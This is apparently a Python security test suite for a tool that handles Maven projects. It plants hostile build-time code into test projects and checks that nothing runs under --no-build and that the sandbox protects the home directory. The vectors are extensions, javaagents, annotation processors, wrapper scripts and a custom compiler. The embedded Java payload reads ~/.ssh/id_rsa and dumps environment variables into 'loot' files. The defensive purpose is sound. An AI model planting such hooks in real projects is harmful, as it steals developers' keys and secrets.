"""Build files that run code: nothing of it may run under --no-build, and otherwise only in the fence."""

import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

from canaries import House
from hostile import innocent, jar, lay, pom
from registry import Broke, NotTried, Part, Severity, attempt
from workbench import Workbench

_ACT = """
    static void act(String how) {{
        try {{ new java.io.FileOutputStream("{home}/PWNED-" + how).close(); }} catch (Throwable e) {{ }}
        try {{
            byte[] key = java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("{home}/.ssh/id_rsa"));
            java.nio.file.Files.write(java.nio.file.Paths.get(System.getProperty("user.dir"), "loot-" + how), key);
        }} catch (Throwable e) {{ }}
        try {{
            String all = System.getenv().toString();
            java.nio.file.Files.write(java.nio.file.Paths.get(System.getProperty("user.dir"), "environ-" + how), all.getBytes());
        }} catch (Throwable e) {{ }}
    }}
"""
_EXTENSION = """package evil;
import javax.inject.Named;
import javax.inject.Singleton;
import org.apache.maven.AbstractMavenLifecycleParticipant;
@Named("evil") @Singleton
public class Extension extends AbstractMavenLifecycleParticipant {{
    static {{ act("by-extension"); }}
    {act}
}}
"""
_PROCESSOR = """package evil;
import java.util.*;
import javax.annotation.processing.*;
import javax.lang.model.SourceVersion;
import javax.lang.model.element.*;
@SupportedAnnotationTypes("*")
public class {name} extends AbstractProcessor {{
    public SourceVersion getSupportedSourceVersion() {{ return SourceVersion.latest(); }}
    public boolean process(Set<? extends TypeElement> types, RoundEnvironment round) {{
        act("by-{how}");
        try {{ processingEnv.getFiler().createSourceFile("evil.Trace{name}").openWriter().close(); }} catch (Throwable e) {{ }}
        return false;
    }}
    {act}
}}
"""
_AGENT = """package evil;
public class Agent {{
    public static void premain(String arguments) {{ act("by-agent"); }}
    {act}
}}
"""
_LIBRARY = """    <dependency>
      <groupId>org.acme</groupId><artifactId>evil</artifactId><version>1</version>
      <scope>system</scope><systemPath>${project.basedir}/lib/evil.jar</systemPath>
    </dependency>"""


def _maven_libraries() -> str:
    """The class path of mvn itself, to compile an extension against."""
    said = subprocess.run(["mvn", "-v"], capture_output=True, text=True, check=False).stdout
    home = next((line.partition(":")[2].strip() for line in said.splitlines() if "Maven home" in line), "")
    if not home:
        raise NotTried("mvn does not say where it is")
    return str(Path(home) / "lib" / "*")


def _extension(house: House) -> None:
    act = _ACT.format(home=house.home)
    jar(
        house.project / "lib/extension.jar",
        {"evil/Extension.java": _EXTENSION.format(act=act)},
        {"META-INF/sisu/javax.inject.Named": "evil.Extension\n"},
        _maven_libraries(),
    )
    place = house.project / "lib/extension.jar"
    ways = [str(place), *(f"{'../' * count}lib/extension.jar" for count in range(5))]
    lay(house.project, {".mvn/maven.config": f"-Dmaven.ext.class.path={':'.join(ways)}\n"})


def _output(house: House) -> None:
    lay(
        house.project,
        {
            ".mvn/maven.config": f"-Doutput={house.home}/PWNED-by-output\n-DoutputFile={house.home}/PWNED-by-output\n-Dmdep.outputFile={house.home}/PWNED-by-output\n"
        },
    )


def _agent(house: House) -> None:
    act = _ACT.format(home=house.home)
    place = jar(house.base / "agent.jar", {"evil/Agent.java": _AGENT.format(act=act)}, {})
    manifest = lay(house.base, {"manifest": "Premain-Class: evil.Agent\n"}) / "manifest"
    subprocess.run(["jar", "ufm", str(place), str(manifest)], check=True, capture_output=True)
    (house.project / "lib").mkdir(exist_ok=True)
    shutil.copy(place, house.project / "lib/agent.jar")
    lay(house.project, {".mvn/jvm.config": f"-javaagent:{house.project}/lib/agent.jar\n"})


def _processor(house: House) -> None:
    act = _ACT.format(home=house.home)
    jar(
        house.project / "lib/evil.jar",
        {"evil/Processor.java": _PROCESSOR.format(name="Processor", how="processor", act=act)},
        {"META-INF/services/javax.annotation.processing.Processor": "evil.Processor\n"},
    )
    lay(house.project, {"pom.xml": pom(_LIBRARY)})


def _own_processor(house: House) -> None:
    act = _ACT.format(home=house.home)
    lay(
        house.project,
        {
            "src/main/java/evil/Own.java": _PROCESSOR.format(name="Own", how="own-processor", act=act),
            "src/main/resources/META-INF/services/javax.annotation.processing.Processor": "evil.Own\n",
        },
    )


def _wrappers(house: House) -> None:
    script = f'#!/bin/sh\ntouch {house.home}/PWNED-by-wrapper\nexec mvn "$@"\n'
    lay(
        house.project,
        {
            "mvnw": script,
            "gradlew": script,
            ".mvn/wrapper/maven-wrapper.properties": "distributionUrl=https://example.org/maven.zip\n",
        },
    )
    for name in ("mvnw", "gradlew"):
        (house.project / name).chmod(0o755)


def _executable(house: House) -> None:
    """A compiler of the project's own, and options that load code into javac."""
    script = (
        lay(
            house.project, {"javac.sh": f'#!/bin/sh\ntouch {house.home}/PWNED-by-compiler\nexec javac "$@"\n'}
        )
        / "javac.sh"
    )
    script.chmod(0o755)
    act = _ACT.format(home=house.home)
    agent = jar(house.base / "agent.jar", {"evil/Agent.java": _AGENT.format(act=act)}, {})
    manifest = lay(house.base, {"manifest": "Premain-Class: evil.Agent\n"}) / "manifest"
    subprocess.run(["jar", "ufm", str(agent), str(manifest)], check=True, capture_output=True)
    (house.project / "lib").mkdir(exist_ok=True)
    shutil.copy(agent, house.project / "lib/agent.jar")
    build = f"""  <build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId><configuration>
    <fork>true</fork><executable>{script}</executable>
    <compilerArgs><arg>-J-javaagent:{house.project}/lib/agent.jar</arg></compilerArgs>
  </configuration></plugin></plugins></build>"""
    lay(house.project, {"pom.xml": pom("", build)})


_TRICKS: dict[str, tuple[Callable[[House], None], str]] = {
    "extension": (_extension, "an extension that .mvn/maven.config names"),
    "output-property": (_output, "a property in .mvn/maven.config that names an output file"),
    "jvm-config": (_agent, "an agent that .mvn/jvm.config names"),
    "processor-in-jar": (_processor, "an annotation processor in a jar of the project's"),
    "own-processor": (_own_processor, "an annotation processor among the project's sources"),
    "wrappers": (_wrappers, "mvnw and gradlew of the project's"),
    "compiler": (_executable, "a compiler and its options that the POM names"),
}


def _run(bench: Workbench, name: str, trick: Callable[[House], None], *options: str) -> House:
    house = bench.house(name)
    lay(house.project, {"pom.xml": pom(), **innocent()})
    trick(house)
    house.look()
    ran = bench.run(
        house, "synthesize", house.project, "--out", house.out, "--no-candidates", "-j", "1", *options
    ).must_end(0)
    (house.base / "ran.json").write_text(json.dumps(vars(ran)))
    return house


def _register(name: str, trick: Callable[[House], None], words: str) -> None:
    @attempt(
        Part.BUILD,
        Severity.HIGH,
        quick=name in ("extension", "processor-in-jar"),
        name=f"no-build-{name}",
        description=f"Run code under --no-build, by {words}.",
    )
    def without(bench: Workbench) -> str:
        house = _run(bench, f"no-build-{name}", trick, "--no-build")
        traces = [
            path.name
            for path in house.base.rglob("*")
            if path.name.startswith(("PWNED", "loot-", "environ-", "Trace"))
        ]
        if traces:
            raise Broke(f"code of the project's build ran: {', '.join(sorted(set(traces)))}")
        return "nothing ran"

    @attempt(
        Part.BUILD,
        Severity.HIGH,
        name=f"build-{name}",
        description=f"Reach the home and its secrets from the build, by {words}.",
    )
    def fenced(bench: Workbench) -> str:
        house = _run(bench, f"build-{name}", trick)
        if changes := house.changes():
            raise Broke(f"changed: {', '.join(changes)}")
        if leaks := house.leaks():
            raise Broke("; ".join(leaks[:3]))
        ran = [path.name for path in house.out.rglob("environ-*")]
        return f"the home is as it was{' (the code ran, in the fence)' if ran else ''}"


for _name, (_trick, _words) in _TRICKS.items():
    _register(_name, _trick, _words)


@attempt(Part.BUILD, Severity.MEDIUM)
def passing_failure_is_not_kept(bench: Workbench) -> str:
    """A registry that is away for a moment must not spoil later runs."""
    house = bench.house("passing")
    lay(house.project, {"pom.xml": pom(), **innocent()})
    away = house.base / "away"
    lay(away, {"settings.xml": f"<settings><localRepository>{house.base}/empty</localRepository></settings>"})
    lay(
        house.base / "bin",
        {"mvn": '#!/bin/sh\necho "[ERROR] Could not transfer artifact: Connection refused"\nexit 1\n'},
    )
    (house.base / "bin/mvn").chmod(0o755)
    import os

    common = ("run", house.project, "--out", house.out, "--inputs", "3", "--no-candidates", "-j", "1")
    bench.run(house, *common, environment={"PATH": f"{house.base}/bin:{os.environ['PATH']}"})
    bench.run(house, *common).must_end(0)
    text = (house.out / "relations.jsonl").read_text() if (house.out / "relations.jsonl").exists() else ""
    if '"status":"codified"' not in text:
        raise Broke(f"the relation is still not codified: {text[:200]}")
    return "the second run is as if nothing had been"
